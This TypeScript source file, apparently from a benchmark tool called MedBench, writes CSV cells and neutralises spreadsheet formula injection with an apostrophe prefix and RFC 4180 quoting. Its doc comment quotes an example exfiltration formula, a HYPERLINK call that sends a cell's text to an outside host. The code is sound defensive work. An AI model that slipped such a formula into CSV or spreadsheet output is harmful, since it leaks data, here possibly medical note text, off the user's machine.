/**
 * The one way to write a CSV cell. Every CSV MedBench writes goes through csvCell, so text from a model, an
 * external predictions file or an annotation can never become a spreadsheet formula: opened in Excel or
 * LibreOffice, `=HYPERLINK("http://host/?"&D2, "x")` would send a cell (note text) off the machine.
 *
 * A cell that starts with = + - @, a tab or a carriage return (or their full-width forms, which some spreadsheets
 * also read as formulas) gets a leading apostrophe, the OWASP-recommended neutraliser: spreadsheets show the text
 * as it was, and a reader that strips one leading "'" recovers it exactly. Numbers and booleans are written as they
 * are (a negative number is data, not a formula). Then RFC 4180 quoting.
 */
const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

/** The text with a leading "'" when a spreadsheet would run it as a formula. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

export function csvCell(value: string | number | boolean | null | undefined): string {
  if (value === null || value === undefined) return '';
  if (typeof value !== 'string') return String(value);
  const safe = neutraliseFormula(value);
  return /[",\r\n]/.test(safe) ? `"${safe.replaceAll('"', '""')}"` : safe;
}

/** One CSV line (no line ending). */
export function csvLine(values: readonly (string | number | boolean | null | undefined)[]): string {
  return values.map(csvCell).join(',');
}
